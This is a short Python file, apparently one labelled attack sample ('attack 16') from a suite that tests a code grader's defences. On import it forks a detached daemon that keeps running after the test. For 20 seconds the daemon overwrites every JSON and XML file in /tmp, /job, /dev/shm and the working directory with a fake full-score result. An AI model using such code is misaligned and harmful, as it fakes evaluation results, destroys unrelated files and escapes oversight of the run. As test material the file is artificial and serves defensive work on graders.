# attack 16: a daemon that looks for results to rewrite, now and after the test.
# honest: double
# needs: engine
import os
import time


def double(x):
    return 2 * x


def daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    end = time.monotonic() + 20
    while time.monotonic() < end:
        for folder in ("/tmp", "/job", "/dev/shm", "."):
            try:
                for name in os.listdir(folder):
                    if name.endswith((".json", ".xml")):
                        open(os.path.join(folder, name), "w").write('{"tests": [], "points": 10}')
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)


daemon()


def primes(n):
    daemon()
    return []
